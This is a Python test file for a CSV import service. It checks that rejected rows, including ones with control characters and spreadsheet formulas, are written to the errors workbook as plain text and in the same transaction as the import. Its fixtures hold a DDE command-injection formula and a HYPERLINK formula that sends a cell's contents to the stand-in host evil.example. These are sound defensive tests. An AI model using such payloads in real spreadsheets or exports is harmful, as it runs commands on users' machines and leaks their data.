"""The errors file of a run (issue 15): written whatever a rejected row holds (control characters, formulas), as
text, and in the same transaction as the rows and the record, so that no import commits without it."""

import pytest
from openpyxl import load_workbook

from jiuye.accounts.enums import Role
from jiuye.audit.models import AuditEvent
from jiuye.imports import services
from jiuye.imports.models import ImportRecord
from jiuye.imports.services import import_run
from jiuye.imports.storage import ERRORS_SHEET, REJECTED_SHEET, errors_path
from jiuye.lfs.models import SurveyRecord
from jiuye.lfs.services import survey_period_import
from jiuye.people.models import Person, RegisterEntry
from tests.accounts.factories import UserFactory
from tests.imports.files import GRADUATE_HEADER, graduate, write_csv
from tests.lfs.test_import import CSV_HEADER, GOOD_ROWS, person
from tests.people.factories import make_ric

pytestmark = pytest.mark.django_db

INJECTION = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?x="&B3,"点击查看")'


@pytest.fixture
def caseworker():
    return UserFactory(region="1401")


@pytest.fixture
def hostile_file(tmp_path):
    """Row 2 good; row 3 rejected (bad phone) with a vertical tab in its name; row 4 rejected with formulas."""
    rows = [
        graduate("张三", make_ric(sequence=1)),
        graduate("李\x0b四", make_ric(sequence=2), 联系电话="12345"),
        graduate(INJECTION, make_ric(sequence=3), 联系电话=LINK),
    ]
    return write_csv(tmp_path / "台账.csv", GRADUATE_HEADER, rows)


def test_a_rejected_row_with_a_control_character_keeps_the_good_rows_the_record_and_the_errors_file(
    caseworker, hostile_file
):
    record, _result = import_run(user=caseworker, kind="unplaced_graduate", path=hostile_file, dry_run=False)

    assert record.summary == "created=1 updated=0 unchanged=0 rejected=2"
    assert Person.objects.get().name == "张三"
    workbook = load_workbook(errors_path(record.pk))
    rejected = list(workbook[REJECTED_SHEET].iter_rows(min_row=2, max_col=2, values_only=True))
    assert rejected == [(3, "李\\x0b四"), (4, INJECTION)]  # the vertical tab shown, not dropped


def test_formulas_in_rejected_cells_come_back_as_text(caseworker, hostile_file):
    record, _result = import_run(user=caseworker, kind="unplaced_graduate", path=hostile_file, dry_run=False)

    workbook = load_workbook(errors_path(record.pk))
    cells = [cell for sheet in (workbook[ERRORS_SHEET], workbook[REJECTED_SHEET]) for row in sheet for cell in row]
    assert "f" not in {cell.data_type for cell in cells}
    texts = {cell.value for cell in cells}
    assert {INJECTION, LINK} <= texts


@pytest.mark.parametrize("dry_run", [False, True])
def test_a_failing_errors_file_writer_leaves_no_rows_no_record_and_no_file(
    caseworker, hostile_file, monkeypatch, dry_run
):
    written = services.errors_write

    def full_disk(path, **kwargs):
        written(path, **kwargs)  # the file is there, then the disk fills
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(services, "errors_write", full_disk)

    with pytest.raises(OSError, match="No space left"):
        import_run(user=caseworker, kind="unplaced_graduate", path=hostile_file, dry_run=dry_run)

    assert not Person.objects.exists()
    assert not RegisterEntry.objects.exists()
    assert not ImportRecord.objects.exists()
    assert not AuditEvent.objects.exists()
    assert not list(errors_path(1).parent.glob("*"))


def test_a_survey_month_whose_errors_file_fails_is_not_loaded(tmp_path, monkeypatch, settings):
    """The survey microdata import writes its errors file in its own transaction too."""
    written = services.errors_write

    def full_disk(path, **kwargs):
        written(path, **kwargs)
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(services, "errors_write", full_disk)
    path = write_csv(tmp_path / "2026-10.csv", list(CSV_HEADER), [*GOOD_ROWS, person("7", sex="3\x0b")])

    with pytest.raises(OSError, match="No space left"):
        survey_period_import(
            user=UserFactory(region="14", roles=[Role.ANALYST]), month="2026-10", path=path, dry_run=False
        )

    assert not SurveyRecord.objects.exists()
    assert not ImportRecord.objects.exists()
    assert not list(errors_path(1).parent.glob("*"))
